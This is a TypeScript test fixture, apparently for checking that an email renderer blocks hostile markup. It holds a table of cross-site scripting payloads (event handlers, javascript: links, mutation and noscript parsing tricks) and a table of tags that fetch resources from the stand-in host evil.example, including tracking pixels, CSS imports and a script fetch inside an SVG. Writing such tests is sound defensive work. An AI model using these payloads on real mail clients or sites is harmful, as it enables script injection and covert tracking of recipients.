// A mail that tries whatever a mail can try. `evil.example` must never be asked for; `ran` must never be set.

/** Markup that would run something, by what it tries. */
export const RUNS: Readonly<Record<string, string>> = {
  'a script': '<script>top.ran = parent.ran = window.ran = 1</script>',
  'a script from elsewhere': '<script src="https://evil.example/s.js"></script>',
  'a script in capitals': '<SCRIPT>top.ran = 1</SCRIPT>',
  'a script in a drawing': '<svg onload="top.ran=1"><script>top.ran=1</script></svg>',
  'an image that fails': '<img src="x" onerror="top.ran=1">',
  'an image without quotes': '<img src=x onerror=top.ran=1//',
  'a body that loads': '<body onload="top.ran=1" onpageshow="top.ran=1">',
  'a field that takes the focus': '<input autofocus onfocus="top.ran=1">',
  'a disclosure that opens': '<details open ontoggle="top.ran=1"><summary>x</summary></details>',
  'an animation': '<style>@keyframes x{}</style><p style="animation:x" onanimationstart="top.ran=1">x</p>',
  'a link to a script': '<a id="go" href="javascript:top.ran=1">x</a>',
  'a link to a script, spelt oddly': '<a id="go" href=" java&#10;script&colon;top.ran=1">x</a>',
  'a document of its own': '<iframe srcdoc="<script>top.ran=1</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>top.ran=1</script>"></object>',
  'markup that changes when it is read again':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;"></table></mtext></math>',
  'noscript that changes with scripts':
    '<noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript>',
  'a title that ends itself': "<p title='\"><script>top.ran=1</script>'>x</p>",
  'a style that ends itself': '<style>p{content:"</style><script>top.ran=1</script>"}</style>',
  'text that ends the page': '--></body></html></iframe><script>top.ran=1</script>',
  'a template element': '<template shadowrootmode="open"><img src=x onerror="top.ran=1"></template>',
  'plain text to the end': '<plaintext><script>top.ran=1</script>',
  'a script that is never closed': '<p>before</p><script>top.ran = 1',
};

/** Markup that would ask for something, or lead somewhere. */
export const ASKS: Readonly<Record<string, string>> = {
  'an image': '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" alt="A box">',
  'an image without a scheme': '<img src="//evil.example/a.png">',
  'a tracking pixel': '<img src="https://evil.example/open.gif" width="1" height="1">',
  'a picture':
    '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
  'a background': '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'a connection ahead of time': '<link rel="preconnect" href="https://evil.example">',
  'a name ahead of time': '<link rel="dns-prefetch" href="https://evil.example">',
  'a page ahead of time': '<link rel="prefetch" href="https://evil.example/next">',
  'an import':
    '<style>@import "https://evil.example/a.css"; @import url(https://evil.example/b.css);</style>',
  'an import, spelt oddly': '<style>@\\69mport "https://evil.example/a.css";</style>',
  'an address in CSS': '<style>body{background:url("https://evil.example/a.png")}</style>',
  'an address in a style': '<p style="background:url(https://evil.example/a.png)">x</p>',
  'an address, spelt oddly': '<p style="background:u\\72l(https://evil.example/a.png)">x</p>',
  'a set of images': '<p style="background:image-set(\'https://evil.example/a.png\' 1x)">x</p>',
  'a font':
    '<style>@font-face{font-family:f;src:url(https://evil.example/f.woff)}p{font-family:f}</style><p>x</p>',
  'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  'a base': '<base href="https://evil.example/"><img src="a.png">',
  'a frame': '<iframe src="https://evil.example/"></iframe>',
  'a film': '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
  'a sound': '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  'an embedded object': '<embed src="https://evil.example/e"><object data="https://evil.example/o"></object>',
  'a drawing':
    '<svg><image href="https://evil.example/a.png"/><use href="https://evil.example/a.svg#x"/></svg>',
  'a link': '<a id="go" href="https://evil.example/" ping="https://evil.example/ping" target="_top">x</a>',
  'an area': '<img usemap="#m" src="a.png"><map name="m"><area href="https://evil.example/"></map>',
  'a form':
    '<form action="https://evil.example/form"><input name="a" value="1"><button id="go">Send</button></form>',
  'a button of its own': '<button id="go" formaction="https://evil.example/">Send</button>',
};

const allOf = (table: Readonly<Record<string, string>>): string => Object.values(table).join('\n');

/** All of it in one mail; what swallows the rest of a mail stands last. */
export const HOSTILE_MAIL = `<!DOCTYPE html>
<html lang="en" manifest="https://evil.example/m"><head><title>Hello</title></head><body>
<p>Good morning.</p>
${allOf(ASKS)}
${allOf(RUNS)}
</body></html>
`;

/** An image of the workspace that tries what it can. */
export const HOSTILE_DRAWING =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="20" onload="top.ran=1"><style>@import "https://evil.example/drawn.css"; rect{fill:url(https://evil.example/drawn.svg#a)}</style><script>top.ran = parent.ran = 1; fetch("https://evil.example/drawn")</script><image xlink:href="https://evil.example/drawn.png" width="9" height="9"/><rect width="80" height="20" fill="green"/></svg>';
